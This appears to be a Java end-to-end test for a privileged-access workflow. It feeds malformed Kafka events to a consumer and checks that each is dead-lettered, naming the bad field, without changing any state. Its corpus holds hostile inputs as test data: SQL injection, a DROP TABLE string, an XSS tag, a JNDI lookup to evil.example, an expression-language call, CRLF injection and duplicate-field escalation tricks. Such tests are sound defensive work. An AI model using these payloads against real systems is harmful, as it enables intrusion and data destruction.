package dev.pimflow.workflow;

import static dev.pimflow.workflow.support.TicketSystem.ALINE;
import static dev.pimflow.workflow.support.TicketSystem.CONTOSO_ICM;
import static dev.pimflow.workflow.support.TicketSystem.USER_ADMINISTRATOR;
import static dev.pimflow.workflow.support.TopicWatcher.header;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pimflow.contracts.EventCodec;
import dev.pimflow.contracts.EventTypes;
import dev.pimflow.contracts.Status;
import dev.pimflow.workflow.support.EndToEndTestBase;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.header.internals.RecordHeader;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * DESIGN §6.5, the corpus: every malformed event goes to the DLT with a reason naming the field, leaves no process
 * instance, activation or audit record behind, and the partition keeps moving (a good event after the corpus, on
 * the same key and partition, is processed). The results are written to target/bad-input-corpus-report.md.
 */
class BadInputNeverStallsAConsumerTest extends EndToEndTestBase {
    private static final String TICKET = "CONTOSO:Corpus-1";
    private static final String KEY = CONTOSO_ICM + ":" + TICKET;
    private static final String CORPUS_HEADER = "corpus-id";

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    RuntimeService runtime;

    @Autowired
    HistoryService history;

    private final EventCodec codec = new EventCodec();
    private final ObjectMapper json = codec.mapper();

    /** One malformed record; {@code headers} are name-value pairs, so that a header can be given twice. */
    record Case(String name, String key, byte[] value, List<String[]> headers, String expectedField) {}

    private static List<String[]> headers(String... nameValue) {
        List<String[]> h = new ArrayList<>();
        for (int i = 0; i < nameValue.length; i += 2) {
            h.add(new String[] {nameValue[i], nameValue[i + 1]});
        }
        return h;
    }

    @Test
    void everyMalformedEventIsDeadLetteredWithItsFieldAndNothingElseChanges() throws Exception {
        List<Case> corpus = corpus();
        long activations = count("activation");
        awaitAuditChained();
        long auditRecords = count("audit_record");
        long instances = history.createHistoricProcessInstanceQuery().count();

        try (KafkaProducer<String, byte[]> producer = producer()) {
            for (Case c : corpus) {
                ProducerRecord<String, byte[]> record = new ProducerRecord<>("tickets.events", c.key(), c.value());
                record.headers().add(new RecordHeader(CORPUS_HEADER, c.name().getBytes(StandardCharsets.UTF_8)));
                c.headers()
                        .forEach(h ->
                                record.headers().add(new RecordHeader(h[0], h[1].getBytes(StandardCharsets.UTF_8))));
                producer.send(record).get(10, TimeUnit.SECONDS);
            }
        }
        // after the corpus, on the same key (so the same partition): a good request must still be processed
        tickets.requestActivation(TICKET, ALINE, "PT1H");
        var challenge = awaitChallenge(TICKET);

        List<String[]> report = new ArrayList<>();
        for (Case c : corpus) {
            ConsumerRecord<String, byte[]> dead =
                    topics.awaitRecord("tickets.events.dlt", WAIT, r -> c.name().equals(header(r, CORPUS_HEADER)));
            String field = header(dead, "pim-dlt-field");
            String reason = header(dead, "pim-dlt-reason");
            report.add(new String[] {c.name(), c.expectedField(), field, reason});
            assertThat(field)
                    .as("field named for '%s' (reason: %s)", c.name(), reason)
                    .isEqualTo(c.expectedField());
            assertThat(reason).startsWith(c.expectedField() + ": ");
            assertThat(dead.value()).isEqualTo(c.value());
            assertThat(dead.key()).isEqualTo(c.key());
            // the reason, and where the record came from; no exception class, message or stack trace for topic readers
            assertThat(header(dead, "kafka_dlt-original-topic")).isEqualTo("tickets.events");
            assertThat(header(dead, "kafka_dlt-original-partition")).isNotNull();
            assertThat(header(dead, "kafka_dlt-original-offset")).isNotNull();
            assertThat(dead.headers().headers("kafka_dlt-exception-stacktrace"))
                    .as("stack trace header of '%s'", c.name())
                    .isEmpty();
            assertThat(dead.headers().headers("kafka_dlt-exception-message")).isEmpty();
            assertThat(dead.headers().headers("kafka_dlt-exception-fqcn")).isEmpty();
            assertThat(dead.headers().headers("kafka_dlt-exception-cause-fqcn")).isEmpty();
        }
        writeReport(corpus.size(), report);

        // nothing of the corpus became state: only the one good request added an activation, an instance and its audit
        String activationId = challenge.path("data").path("activationId").asText();
        assertThat(count("activation")).isEqualTo(activations + 1);
        awaitAuditChained();
        assertThat(history.createHistoricProcessInstanceQuery().count()).isEqualTo(instances + 1);
        assertThat(count("audit_record") - auditRecords)
                .isEqualTo(jdbc.queryForObject(
                        "SELECT COUNT(*) FROM audit_record WHERE activation_id = ?", Long.class, activationId));
        assertThat(audit.verify().intact()).isTrue();

        tickets.closeTicket(TICKET);
        awaitStatus(activationId, Status.CANCELLED);
    }

    private List<Case> corpus() {
        List<Case> c = new ArrayList<>();
        // the envelope
        raw(c, "broken JSON", "{\"specversion\":\"1.0\",", "payload");
        raw(c, "empty value", "", "payload");
        raw(c, "JSON array", "[1,2,3]", "payload");
        raw(c, "JSON string", "\"ticket.closed\"", "payload");
        raw(
                c,
                "no specversion",
                "{\"id\":\"x\",\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"data\":{}}",
                "specversion");
        raw(
                c,
                "wrong specversion",
                "{\"specversion\":\"0.3\",\"id\":\"x\",\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"data\":{}}",
                "specversion");
        raw(c, "no id", "{\"specversion\":\"1.0\",\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"data\":{}}", "id");
        raw(
                c,
                "numeric id",
                "{\"specversion\":\"1.0\",\"id\":42,\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"data\":{}}",
                "id");
        raw(c, "no type", "{\"specversion\":\"1.0\",\"id\":\"x\",\"source\":\"urn:t\",\"data\":{}}", "type");
        raw(c, "no source", "{\"specversion\":\"1.0\",\"id\":\"x\",\"type\":\"ticket.closed\",\"data\":{}}", "source");
        event(c, "unknown type", "ticket.renamed", request(), "type");
        event(c, "mfa type on the ticket topic", EventTypes.MFA_RESPONSE, request(), "type");
        c.add(new Case(
                "no data",
                KEY,
                ("{\"specversion\":\"1.0\",\"id\":\"" + UUID.randomUUID()
                                + "\",\"source\":\"urn:t\",\"type\":\"ticket.closed\"}")
                        .getBytes(StandardCharsets.UTF_8),
                List.of(),
                "data"));
        c.add(new Case(
                "data not an object",
                KEY,
                ("{\"specversion\":\"1.0\",\"id\":\"" + UUID.randomUUID()
                                + "\",\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"datacontenttype\":\"application/json\",\"data\":\"closed\"}")
                        .getBytes(StandardCharsets.UTF_8),
                List.of(),
                "data"));
        byte[] big =
                ("{\"specversion\":\"1.0\",\"id\":\"big\",\"source\":\"urn:t\",\"type\":\"ticket.closed\",\"data\":{\"pad\":\""
                                + "x".repeat(70_000) + "\"}}")
                        .getBytes(StandardCharsets.UTF_8);
        c.add(new Case("oversize payload (70 kB)", KEY, big, List.of(), "payload"));
        c.add(new Case(
                "binary mode without ce_id",
                KEY,
                request().toString().getBytes(StandardCharsets.UTF_8),
                headers(
                        "ce_specversion",
                        "1.0",
                        "ce_source",
                        "urn:t",
                        "ce_type",
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        "content-type",
                        "application/json"),
                "headers"));

        // missing and mistyped fields
        for (String field : List.of(
                "ticketSystem", "ticketNumber", "principalId", "roleDefinitionId", "justification", "duration")) {
            ObjectNode d = request();
            d.remove(field);
            event(c, "missing " + field, EventTypes.TICKET_ACTIVATION_REQUESTED, d, "data." + field);
        }
        event(
                c,
                "unknown field",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                request().put("approvedBy", "me"),
                "data.approvedBy");
        event(
                c,
                "numeric principalId",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                with(request(), d -> d.put("principalId", 42)),
                "data.principalId");
        event(
                c,
                "numeric duration",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                with(request(), d -> d.put("duration", 5)),
                "data.duration");
        event(
                c,
                "array justification",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                with(request(), d -> d.putArray("justification").add("x")),
                "data.justification");
        event(
                c,
                "null ticketNumber",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                with(request(), d -> d.putNull("ticketNumber")),
                "data.ticketNumber");
        event(
                c,
                "principal not a GUID",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                request().put("principalId", "aline@contoso.com"),
                "data.principalId");
        event(
                c,
                "bad scope",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                request().put("directoryScopeId", "tenant"),
                "data.directoryScopeId");

        // durations
        for (String d :
                List.of("-PT5H", "PT0S", "P0D", "P9999D", "P1Y", "PT", "5h", "five hours", "PT5H ", "PT1.5.3S")) {
            event(
                    c,
                    "duration '" + d + "'",
                    EventTypes.TICKET_ACTIVATION_REQUESTED,
                    request().put("duration", d),
                    "data.duration");
        }

        // unknown to the directory
        event(
                c,
                "unknown role",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                request().put("roleDefinitionId", "00000000-0000-4000-8000-000000000001"),
                "data.roleDefinitionId");
        event(
                c,
                "unknown principal",
                EventTypes.TICKET_ACTIVATION_REQUESTED,
                request().put("principalId", "00000000-0000-4000-8000-000000000002"),
                "data.principalId");

        // injection strings in every text field
        List<String> injections = List.of(
                "' OR '1'='1",
                "\"; DROP TABLE activation; --",
                "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/x}",
                "#{runtimeService.deleteProcessInstance('x', 'y')}",
                "CONTOSO\r\nX-Injected: 1",
                "nul\u0000byte");
        for (String field : List.of(
                "ticketSystem",
                "ticketNumber",
                "justification",
                "directoryScopeId",
                "principalId",
                "roleDefinitionId")) {
            for (String attack : injections) {
                if (field.equals("justification") && (attack.startsWith("'") || attack.startsWith("\""))) {
                    continue; // quotes and semicolons are ordinary prose in a justification; stored as data, never
                    // executed
                }
                event(
                        c,
                        "injection in " + field + ": " + printable(attack),
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        request().put(field, attack),
                        "data." + field);
            }
        }
        ObjectNode closed = json.createObjectNode()
                .put("ticketSystem", CONTOSO_ICM)
                .put("ticketNumber", TICKET)
                .put("closedAt", "yesterday");
        event(c, "closedAt not a date", EventTypes.TICKET_CLOSED, closed, "data.closedAt");
        event(
                c,
                "injection in resolution",
                EventTypes.TICKET_CLOSED,
                json.createObjectNode()
                        .put("ticketSystem", CONTOSO_ICM)
                        .put("ticketNumber", TICKET)
                        .put("closedAt", "2026-11-28T10:00:00Z")
                        .put("resolution", "${jndi:ldap://evil.example/x}"),
                "data.resolution");

        // the key must name the ticket of the data
        c.add(new Case(
                "key of another ticket",
                CONTOSO_ICM + ":CONTOSO:Other",
                codec.writeInbound(
                        UUID.randomUUID().toString(),
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        URI.create("urn:t"),
                        request()),
                List.of(),
                "key"));

        // issue 17, finding 6: a record without a key
        c.add(new Case(
                "no key",
                null,
                codec.writeInbound(
                        UUID.randomUUID().toString(),
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        URI.create("urn:t"),
                        request()),
                List.of(),
                "key"));
        c.add(new Case(
                "empty key",
                "",
                codec.writeInbound(
                        UUID.randomUUID().toString(),
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        URI.create("urn:t"),
                        request()),
                List.of(),
                "key"));

        // a field named twice: "last one wins" made this a request for the admin, or a ticket.closed
        String requestJson = request().toString();
        raw(
                c,
                "principalId twice",
                envelope(
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        requestJson.replace("{", "{\"principalId\":\"e2330663-0000-4000-8000-000000000000\",")),
                "data.principalId");
        raw(
                c,
                "duration twice",
                envelope(EventTypes.TICKET_ACTIVATION_REQUESTED, requestJson.replace("}", ",\"duration\":\"P365D\"}")),
                "data.duration");
        String twoTypes = envelope(EventTypes.TICKET_ACTIVATION_REQUESTED, requestJson);
        raw(c, "type twice", twoTypes.substring(0, twoTypes.length() - 1) + ",\"type\":\"ticket.closed\"}", "type");
        String twoIds = envelope(EventTypes.TICKET_ACTIVATION_REQUESTED, requestJson);
        raw(c, "id twice", twoIds.substring(0, twoIds.length() - 1) + ",\"id\":\"" + UUID.randomUUID() + "\"}", "id");

        // content types: binary mode carries JSON data only; structured mode is application/cloudevents+json only
        for (String contentType : List.of("text/plain", "application/xml", "application/cloudevents-batch+json")) {
            c.add(new Case(
                    "binary mode, content-type " + contentType,
                    KEY,
                    requestJson.getBytes(StandardCharsets.UTF_8),
                    binary(UUID.randomUUID().toString(), "content-type", contentType),
                    "content-type"));
        }
        c.add(new Case(
                "binary mode without content-type",
                KEY,
                requestJson.getBytes(StandardCharsets.UTF_8),
                binary(UUID.randomUUID().toString()),
                "content-type"));
        List<String[]> twoTypeHeaders = binary(UUID.randomUUID().toString(), "content-type", "application/json");
        twoTypeHeaders.add(new String[] {"ce_type", EventTypes.TICKET_CLOSED});
        c.add(new Case(
                "binary mode, ce_type twice",
                KEY,
                requestJson.getBytes(StandardCharsets.UTF_8),
                twoTypeHeaders,
                "headers"));
        c.add(new Case(
                "binary mode, data with principalId twice",
                KEY,
                requestJson
                        .replace("{", "{\"principalId\":\"e2330663-0000-4000-8000-000000000000\",")
                        .getBytes(StandardCharsets.UTF_8),
                binary(UUID.randomUUID().toString(), "content-type", "application/json"),
                "data.principalId"));
        c.add(new Case(
                "structured mode, content-type text/plain",
                KEY,
                codec.writeInbound(
                        UUID.randomUUID().toString(),
                        EventTypes.TICKET_ACTIVATION_REQUESTED,
                        URI.create("urn:t"),
                        request()),
                headers("content-type", "text/plain"),
                "content-type"));
        raw(
                c,
                "datacontenttype application/xml",
                envelope(EventTypes.TICKET_ACTIVATION_REQUESTED, requestJson)
                        .replace("\"datacontenttype\":\"application/json\"", "\"datacontenttype\":\"application/xml\""),
                "datacontenttype");
        raw(
                c,
                "source longer than 200 characters",
                envelope(EventTypes.TICKET_ACTIVATION_REQUESTED, requestJson)
                        .replace("\"source\":\"urn:test:corpus\"", "\"source\":\"urn:" + "s".repeat(250) + "\""),
                "source");
        // more time (DESIGN §9.3) for an activation the ticket does not have, or for no live one: nothing to extend
        ObjectNode extension = json.createObjectNode()
                .put("ticketSystem", CONTOSO_ICM)
                .put("ticketNumber", TICKET)
                .put("activationId", UUID.randomUUID().toString())
                .put("duration", "PT1H");
        event(
                c,
                "extension of an unknown activation",
                EventTypes.TICKET_EXTENSION_REQUESTED,
                extension,
                "data.activationId");
        event(
                c,
                "extension of no live activation",
                EventTypes.TICKET_EXTENSION_REQUESTED,
                with(extension.deepCopy(), d -> {
                    d.remove("activationId");
                    d.put("principalId", ALINE);
                    d.put("roleDefinitionId", USER_ADMINISTRATOR);
                }),
                "data.principalId");
        event(
                c,
                "extension longer than a day",
                EventTypes.TICKET_EXTENSION_REQUESTED,
                with(extension.deepCopy(), d -> d.put("duration", "PT25H")),
                "data.duration");
        return c;
    }

    private ObjectNode request() {
        ObjectNode d = json.createObjectNode();
        d.put("ticketSystem", CONTOSO_ICM);
        d.put("ticketNumber", TICKET);
        d.put("principalId", ALINE);
        d.put("roleDefinitionId", USER_ADMINISTRATOR);
        d.put("directoryScopeId", "/");
        d.put("justification", "corpus");
        d.put("duration", "PT1H");
        return d;
    }

    /** A structured-mode event with the data as given (raw JSON text, so that it can name a field twice). */
    private static String envelope(String type, String dataJson) {
        return "{\"specversion\":\"1.0\",\"id\":\"" + UUID.randomUUID()
                + "\",\"source\":\"urn:test:corpus\",\"type\":\"" + type
                + "\",\"datacontenttype\":\"application/json\",\"data\":" + dataJson + "}";
    }

    /** Binary-mode headers of an activation request, plus the given ones. */
    private static List<String[]> binary(String id, String... more) {
        List<String[]> h = headers(
                "ce_specversion",
                "1.0",
                "ce_id",
                id,
                "ce_source",
                "urn:test:corpus",
                "ce_type",
                EventTypes.TICKET_ACTIVATION_REQUESTED);
        h.addAll(headers(more));
        return h;
    }

    private static ObjectNode with(ObjectNode d, Consumer<ObjectNode> change) {
        change.accept(d);
        return d;
    }

    private void raw(List<Case> c, String name, String value, String field) {
        c.add(new Case(name, KEY, value.getBytes(StandardCharsets.UTF_8), List.of(), field));
    }

    private void event(List<Case> c, String name, String type, ObjectNode data, String field) {
        c.add(new Case(
                name,
                KEY,
                codec.writeInbound(UUID.randomUUID().toString(), type, URI.create("urn:test:corpus"), data),
                List.of(),
                field));
    }

    private static String printable(String s) {
        return s.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
    }

    private KafkaProducer<String, byte[]> producer() {
        return new KafkaProducer<>(Map.of(
                ProducerConfig.BOOTSTRAP_SERVERS_CONFIG,
                broker.getBrokersAsString(),
                ProducerConfig.KEY_SERIALIZER_CLASS_CONFIG,
                StringSerializer.class,
                ProducerConfig.VALUE_SERIALIZER_CLASS_CONFIG,
                ByteArraySerializer.class,
                ProducerConfig.MAX_REQUEST_SIZE_CONFIG,
                2_000_000));
    }

    private long count(String table) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class);
    }

    private static void writeReport(int size, List<String[]> rows) throws IOException {
        StringBuilder sb = new StringBuilder("# Bad-input corpus (DESIGN §6.5)\n\n")
                .append("Corpus size: ")
                .append(size)
                .append(", dead-lettered with the expected field: ")
                .append(rows.stream().filter(r -> r[1].equals(r[2])).count())
                .append("\n\n")
                .append("| case | expected field | pim-dlt-field | pim-dlt-reason |\n|---|---|---|---|\n");
        for (String[] r : rows) {
            sb.append("| ")
                    .append(r[0].replace("|", "\\|"))
                    .append(" | ")
                    .append(r[1])
                    .append(" | ")
                    .append(r[2])
                    .append(" | ")
                    .append(String.valueOf(r[3]).replace("|", "\\|").replace("\n", " "))
                    .append(" |\n");
        }
        Path out = Path.of("target", "bad-input-corpus-report.md");
        Files.createDirectories(out.getParent());
        Files.writeString(out, sb);
        System.out.println(sb);
    }
}
